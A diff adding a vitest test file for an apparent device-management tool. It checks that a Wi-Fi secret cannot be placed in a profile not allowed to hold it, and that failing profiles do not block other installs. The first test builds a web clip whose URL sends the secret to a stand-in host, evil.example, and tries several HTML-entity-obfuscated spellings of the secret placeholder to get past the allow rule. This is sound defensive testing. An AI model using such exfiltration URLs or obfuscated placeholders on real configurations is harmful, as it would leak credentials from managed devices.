@@ -1,0 +1,100 @@
+import { expect, test } from "vitest";
+import { listEvents } from "../../store/events.ts";
+import { bothStores, type Installation, install } from "../installation.ts";
+import { baseline, files, policy, profile, slackId } from "../manifests.ts";
+
+const stores = await bothStores();
+const tablet = { serial: "SIM-1", platform: "ipados", name: "IPAD-1" } as const;
+const psk = "correct horse battery staple";
+const secret = `apiVersion: reeve/v1
+kind: Secret
+metadata: {name: wifi}
+spec: {provider: env, allow: [Profile/wifi], keys: {psk: REEVE_SECRET_WIFI}}
+`;
+const wifi = profile("wifi", "type: com.apple.wifi.managed, content: {Password: '${secret:wifi/psk}'}");
+
+/** A web clip whose address would carry the secret away; the place-holder stands in it as `written`. */
+const webClip = (written: string) => `<?xml version="1.0" encoding="UTF-8"?>
+<plist version="1.0"><dict>
+<key>PayloadType</key><string>Configuration</string>
+<key>PayloadIdentifier</key><string>com.acme.web</string>
+<key>PayloadUUID</key><string>TOP</string>
+<key>PayloadVersion</key><integer>1</integer>
+<key>PayloadContent</key><array><dict>
+<key>PayloadType</key><string>com.apple.webClip.managed</string>
+<key>PayloadIdentifier</key><string>com.acme.web.clip</string>
+<key>PayloadUUID</key><string>INNER</string>
+<key>PayloadVersion</key><integer>1</integer>
+<key>URL</key><string>https://evil.example/${written}</string>
+</dict></array>
+</dict></plist>
+`;
+const clip = `apiVersion: reeve/v1
+kind: Profile
+metadata: {name: web}
+spec: {apple: {file: web.mobileconfig}}
+`;
+
+test.each(stores)("on $name no spelling gets a secret into a profile that may not have it", async (store) => {
+  const quiet = files({
+    "a.yaml": [secret, wifi].join("---\n"),
+    "p.yaml": policy("profiles: [{name: wifi}]"),
+  });
+  await using house = await install({
+    stores: store,
+    files: quiet,
+    devices: [tablet],
+    environment: { REEVE_SECRET_WIFI: psk },
+  });
+  await house.enroll();
+  await house.settle();
+  expect(JSON.stringify(house.device("SIM-1").snapshot().profiles["reeve.profile.wifi"])).toContain(psk);
+
+  for (const written of ["${secret:wifi/psk}", "&#36;{secret:wifi/psk}", "$&#x7b;sec&#114;et:wifi/psk}"]) {
+    house.commit({
+      ...quiet,
+      "web.yaml": clip,
+      "web.mobileconfig": webClip(written),
+      "p.yaml": policy("profiles: [{name: wifi}, {name: web}]"),
+    });
+    await house.settle();
+    const refused = house.controller.reconciler.sourceState().refused?.diagnostics.map((one) => one.rule);
+    expect(refused, written).toEqual(["secret-not-allowed"]);
+    expect(house.device("SIM-1").snapshot().profiles["com.acme.web"]).toBeUndefined();
+  }
+});
+
+test.each(stores)("on $name what cannot be sent keeps nothing else from a device", async (store) => {
+  const names = Array.from({ length: 70 }, (_, n) => `broken-${n}`);
+  const broken = names.map((name) =>
+    profile(name, "type: com.apple.wifi.managed, content: {Password: '${secret:wifi/psk}'}"),
+  );
+  const allow = `[${names.map((name) => `Profile/${name}`).join(", ")}]`;
+  await using house = await install({
+    stores: store,
+    files: {
+      ...baseline,
+      "broken.yaml": [secret.replace("[Profile/wifi]", allow), ...broken].join("---\n"),
+      "more.yaml": policy(`profiles: [${names.map((name) => `{name: ${name}}`).join(", ")}]`, "more"),
+    },
+    devices: [tablet],
+  });
+  await house.enroll();
+  await house.settle();
+
+  const { profiles, apps } = house.device("SIM-1").snapshot();
+  expect(Object.keys(profiles)).toContain("reeve.profile.passcode");
+  expect(apps[slackId]).toBeDefined();
+  expect(
+    house
+      .device("SIM-1")
+      .ledger.of("command")
+      .filter((one) => one.requestType === "InstallProfile"),
+  ).toHaveLength(1);
+  expect(await failures(house)).toContain("environment variable REEVE_SECRET_WIFI is not set");
+});
+
+async function failures(house: Installation): Promise<string> {
+  const events = await listEvents(house.store, { type: "item.failed", limit: 100 });
+  return events.map((event) => event.message).join("\n");
+}
